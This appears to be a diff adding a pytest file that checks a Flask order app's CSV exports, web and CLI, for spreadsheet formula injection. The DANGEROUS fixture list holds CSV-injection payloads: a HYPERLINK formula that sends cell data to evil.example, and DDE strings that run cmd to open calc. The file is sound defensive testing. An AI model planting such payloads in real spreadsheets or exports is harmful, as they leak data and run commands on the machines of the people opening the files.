@@ -1,0 +1,109 @@
+"""CSV exports hold no formula: a customer name a spreadsheet would run is written with a leading '.
+
+Both exports (GET /orders/export.csv and `flask export`) go through the same writer; `--raw`
+writes names as stored. The resumed export is byte-identical to an uninterrupted one with these
+names in it (tests/test_export_cli.py seeds them too).
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from decimal import Decimal
+
+import pytest
+from flask import Flask
+
+from app import create_app
+from orders.db import make_engine, migrate
+from orders.serialize import neutralize
+
+from .conftest import SECRET
+from .helpers import BASE, add_orders
+
+# What the issue's attacker posted, and every character OWASP lists as a formula trigger.
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    '+cmd|" /C calc"!A0',
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "\tTabbed",
+    "\rReturn",
+]
+HARMLESS = ["Ana", "José = Maria", "O'Brien", "1+1", " =spaced", "Ωmega", "'quoted"]
+
+
+@pytest.fixture
+def app(tmp_path) -> Flask:  # type: ignore[no-untyped-def]
+    url = f"sqlite:///{tmp_path / 'csv.db'}"
+    engine = make_engine(url)
+    migrate(engine)
+    # Written straight to the table: data from before the API refused tab and CR must be safe too.
+    rows = [
+        (BASE - dt.timedelta(minutes=i), name, Decimal(i) + Decimal("0.25"), "paid")
+        for i, name in enumerate(DANGEROUS + HARMLESS)
+    ]
+    add_orders(engine, rows)
+    engine.dispose()
+    app = create_app({"TESTING": True, "DATABASE_URL": url, "SECRET_KEY": SECRET})
+    yield app
+    app.extensions["engine"].dispose()
+
+
+def names(csv_text: str) -> list[str]:
+    rows = list(csv.reader(io.StringIO(csv_text, newline="")))
+    assert rows[0] == ["id", "customer", "amount", "status", "created_at"]
+    return [row[1] for row in rows[1:]]
+
+
+def expected(raw: bool = False) -> list[str]:
+    everything = DANGEROUS + HARMLESS  # newest first is insertion order here
+    return everything if raw else ["'" + n if n in DANGEROUS else n for n in everything]
+
+
+def test_neutralize_follows_owasp() -> None:
+    for name in DANGEROUS:
+        assert neutralize(name) == "'" + name
+    for name in HARMLESS:
+        assert neutralize(name) == name
+
+
+def test_web_export_neutralizes_formula_cells(app: Flask) -> None:
+    response = app.test_client().get("/orders/export.csv")
+    assert response.status_code == 200
+    text = response.get_data(as_text=True)
+    assert names(text) == expected()
+    # Only text cells: ids, amounts, statuses and timestamps are written as they are.
+    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
+        assert row[0].isdigit() and Decimal(row[2]) >= 0 and row[3] == "paid" and row[4].endswith("Z")
+
+
+def test_cli_export_neutralizes_and_raw_writes_names_as_stored(app: Flask, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    runner = app.test_cli_runner()
+    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
+    assert runner.invoke(args=["export", "--output", str(safe)]).exit_code == 0
+    assert runner.invoke(args=["export", "--output", str(raw), "--raw"]).exit_code == 0
+    assert names(safe.read_bytes().decode()) == expected()
+    assert names(raw.read_bytes().decode()) == expected(raw=True)
+    # The command and the download write the same bytes.
+    assert safe.read_bytes() == app.test_client().get("/orders/export.csv").get_data()
+
+
+def test_resumed_export_with_formula_cells_is_byte_identical(app: Flask, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    """Resume after every batch boundary (batches of 3): the pieces concatenate to the whole."""
+    runner = app.test_cli_runner()
+    whole = tmp_path / "whole.csv"
+    assert runner.invoke(args=["export", "--output", str(whole)]).exit_code == 0
+    client = app.test_client()
+    first = client.get("/api/orders", query_string={"limit": 3}).json
+    part = tmp_path / "part.csv"
+    # The first three rows by the API, then the rest resumed after them, as a second command.
+    head = runner.invoke(args=["export", "--output", str(part), "--batch-size", "3"])
+    assert head.exit_code == 0
+    lines = part.read_text(encoding="utf-8").splitlines(keepends=True)
+    part.write_text("".join(lines[:4]), encoding="utf-8", newline="")  # header + three rows
+    resumed = runner.invoke(args=["export", "--output", str(part), "--after", first["next_cursor"]])
+    assert resumed.exit_code == 0, resumed.output
+    assert part.read_bytes() == whole.read_bytes()
